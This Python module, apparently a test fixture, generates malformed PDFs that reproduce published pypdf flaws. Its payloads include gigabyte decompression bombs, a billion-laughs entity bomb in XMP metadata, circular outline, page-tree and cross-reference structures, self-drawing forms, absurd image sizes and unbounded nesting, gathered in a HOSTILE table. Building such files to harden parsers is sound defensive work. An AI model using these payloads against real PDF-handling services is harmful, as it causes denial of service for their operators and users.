"""PDF files that are meant to harm their reader, each after a fault that a reader of PDF has had.

The numbers are those under which pypdf's faults were published (its CHANGELOG and advisories name them).
"""

from __future__ import annotations

import zlib
from collections.abc import Callable, Mapping

from pdf_maker import TWICE, assembled, bomb, content, packed_twice, raw_pdf

GIGABYTE = 2**30
_PAGE = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R >>"
_PAGES = b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>"
_FONT = b"<< /Font << /F1 << /Type /Font /Subtype /Type1 /BaseFont /Helvetica %s >> >> >>"


def stream(data: bytes, about: str = "") -> bytes:
    """A stream object with these bytes."""
    return f"<< /Length {len(data)} {about} >>\nstream\n".encode() + data + b"\nendstream"


def one_page(text: bytes, *more: bytes, catalogue: bytes = b"", page: bytes = _PAGE) -> bytes:
    """A PDF of one page with this content stream; `more` are its objects from number 5."""
    return assembled([b"<< /Type /Catalog /Pages 2 0 R " + catalogue + b" >>", _PAGES, page, stream(text), *more])


def filtered(data: bytes, name: str) -> bytes:
    """A PDF whose page's content is packed in this way."""
    return raw_pdf([data], {1: f"/Filter /{name}"})


def outline_loop() -> bytes:
    """Bookmarks of which each is followed by the first (CVE-2026-24688)."""
    first = b"<< /Title (A) /Parent 5 0 R /Next 7 0 R /First 6 0 R /Last 7 0 R /Dest [3 0 R /Fit] >>"
    second = b"<< /Title (B) /Parent 5 0 R /Next 6 0 R /Dest [3 0 R /Fit] >>"
    root = b"<< /Type /Outlines /First 6 0 R /Last 7 0 R /Count 2 >>"
    return one_page(b"", root, first, second, catalogue=b"/Outlines 5 0 R")


def circular_prev() -> bytes:
    """A table of objects whose predecessor is itself (CVE-2026-27628)."""
    whole = raw_pdf([content("Texte.")])
    start = whole.index(b"xref\n")
    return whole.replace(b"/Root 1 0 R", f"/Root 1 0 R /Prev {start}".encode())


def damaged_root() -> bytes:
    """A trailer that names no catalogue, so that a reader looks for one among a million objects (CVE-2026-22690)."""
    return raw_pdf([content("Texte.")]).replace(b"/Size 6 /Root 1 0 R", b"/Size 9999999")


def wrong_length(length: str) -> bytes:
    """A stream that says it is as long as that (CVE-2026-31826)."""
    text = content("Texte.")
    return raw_pdf([text]).replace(f"/Length {len(text)} ".encode(), f"/Length {length} ".encode())


def xref_stream(size: int, widths: str) -> bytes:
    """A PDF whose table of objects is a stream that says to have so many entries, of these widths."""
    packed = zlib.compress(bytes(1000))
    about = f"/Type /XRef /Size {size} /W [{widths}] /Root 1 0 R /Index [0 {size}] /Filter /FlateDecode"
    body = b"%PDF-1.7\n1 0 obj\n<< /Type /Catalog >>\nendobj\n"
    return body + b"2 0 obj\n" + stream(packed, about) + f"\nendobj\nstartxref\n{len(body)}\n%%EOF\n".encode()


def laughing_metadata() -> bytes:
    """XMP whose entities are a billion laughs (CVE-2026-40260)."""
    entities = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
    xmp = f'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY l0 "ha">{entities}]><x>&l9;</x>'.encode()
    return one_page(content("Texte."), stream(xmp, "/Type /Metadata /Subtype /XML"), catalogue=b"/Metadata 5 0 R")


def pages_loop() -> bytes:
    """A tree of pages that contains itself."""
    kids = b"<< /Type /Pages /Parent 2 0 R /Kids [2 0 R 3 0 R] /Count 100000000 >>"
    return assembled([b"<< /Type /Catalog /Pages 2 0 R >>", kids, kids])


def form_loop(width: int) -> bytes:
    """Drawings of which each draws the next so many times, and the last the first (CVE-2026-84310)."""
    count = 12
    forms = []
    for n in range(count):
        resources = f"/Resources << /XObject << /X {5 + (n + 1) % count} 0 R >> >>"
        forms.append(stream(b"/X Do " * width, f"/Type /XObject /Subtype /Form /BBox [0 0 1 1] {resources}"))
    page = _PAGE[:-2] + b"/Resources << /XObject << /X 5 0 R >> >> >>"
    return one_page(b"/X Do", *forms, page=page)


def same_content(times: int) -> bytes:
    """A page whose content is the same stream over and over (pypdf 6.9.1)."""
    contents = b"[" + b"4 0 R " * times + b"]"
    return one_page(content("Texte. ") * 100, page=_PAGE.replace(b"4 0 R", contents))


def wide_map() -> bytes:
    """A font that names four billion letters in one line (pypdf 6.7.1)."""
    ranges = b"1 beginbfrange <00000000> <FFFFFFFF> <0041> endbfrange\n" * 50
    page = _PAGE[:-2] + b"/Resources " + _FONT % b"/ToUnicode 5 0 R" + b" >>"
    return one_page(content("Texte."), stream(b"begincmap " + ranges + b"endcmap"), page=page)


def deep(opening: bytes, closing: bytes, depth: int = 100_000) -> bytes:
    """Brackets without end, in the page's content and in the file itself."""
    nest = opening * depth + closing * depth
    return one_page(b"BT " + nest + b" TJ ET", b"<< /A " + nest + b" >>", catalogue=b"/Extra 5 0 R")


def object_stream_loop() -> bytes:
    """A stream of objects that is said to be in itself."""
    inner = zlib.compress(b"5 0 << /Type /Catalog /Pages 2 0 R >>")
    about = "/Type /ObjStm /N 100000000 /First 4 /Extends 5 0 R /Filter /FlateDecode"
    return one_page(content("Texte."), stream(inner, about))


def vast_page() -> bytes:
    """A page of a hundred kilometres, with nothing but a picture on it."""
    page = _PAGE.replace(b"595 842", b"300000000 300000000")
    picture = stream(zlib.compress(bytes(10**6)), "/Type /XObject /Subtype /Image /Width 1000 /Height 1000 "
                     "/ColorSpace /DeviceGray /BitsPerComponent 8 /Filter /FlateDecode")  # fmt: skip
    resources = b"/Resources << /XObject << /P 5 0 R >> >> >>"
    return one_page(b"200000000 0 0 200000000 0 0 cm /P Do", picture, page=page[:-2] + resources)


def vast_picture() -> bytes:
    """A scanned page of a few kilobytes whose picture says to have ten thousand million dots."""
    about = ("/Type /XObject /Subtype /Image /Width 100000 /Height 100000 /ColorSpace /DeviceRGB /BitsPerComponent 8 "
             "/Filter [/FlateDecode /FlateDecode]")  # fmt: skip
    resources = b"/Resources << /XObject << /P 5 0 R >> >> >>"
    return one_page(b"595 0 0 842 0 0 cm /P Do", stream(packed_twice(2**28), about), page=_PAGE[:-2] + resources)


#: What each does → how it is made.
HOSTILE: Mapping[str, Callable[[], bytes]] = {
    "unpacks to a gigabyte": lambda: bomb(GIGABYTE),
    "a hundred pages that unpack to a gigabyte each": lambda: raw_pdf(
        [packed_twice(GIGABYTE)] * 100, dict.fromkeys(range(1, 101), TWICE)
    ),
    "Flate with predictors for a row without end": lambda: raw_pdf(
        [zlib.compress(bytes(10**6))],
        {1: "/Filter /FlateDecode /DecodeParms << /Predictor 15 /Columns 2000000000 /Colors 32 >>"},
    ),
    "LZW without end": lambda: filtered(b"\x80\x0b\x60\x50\x22\x0c\x0c\x85\x01" * 300_000, "LZWDecode"),
    "RunLength without end": lambda: filtered(b"\x81A" * 3_000_000, "RunLengthDecode"),
    "ASCIIHex without end": lambda: filtered(b"41 " * 4_000_000, "ASCIIHexDecode"),
    "bookmarks in a circle": outline_loop,
    "a table of objects before itself": circular_prev,
    "no catalogue": damaged_root,
    "a length beyond the file": lambda: wrong_length("9999999999"),
    "a length below nothing": lambda: wrong_length("-1"),
    "a length that is its own stream": lambda: wrong_length("5 0 R"),
    "a table of a thousand million objects": lambda: xref_stream(10**9, "1 2 1"),
    "a table of objects without width": lambda: xref_stream(10**9, "0 0 0"),
    "a billion laughs in its metadata": laughing_metadata,
    "pages in a circle": pages_loop,
    "a drawing in itself": lambda: form_loop(1),
    "a drawing in itself, a thousand times each": lambda: form_loop(1000),
    "one content a hundred thousand times": lambda: same_content(100_000),
    "four billion letters": wide_map,
    "arrays without end": lambda: deep(b"[", b"]"),
    "dictionaries without end": lambda: deep(b"<< /A ", b">>"),
    "texts without end": lambda: deep(b"(", b")"),
    "a stream of objects in itself": object_stream_loop,
    "a page of a hundred kilometres": vast_page,
    "a picture of ten thousand million dots": vast_picture,
    "operators without end": lambda: raw_pdf([b"BT " + b"(A) Tj " * 2_000_000 + b"ET"]),
    "half of it": lambda: raw_pdf([content("Texte.")] * 50)[:4000],
}  # fmt: skip
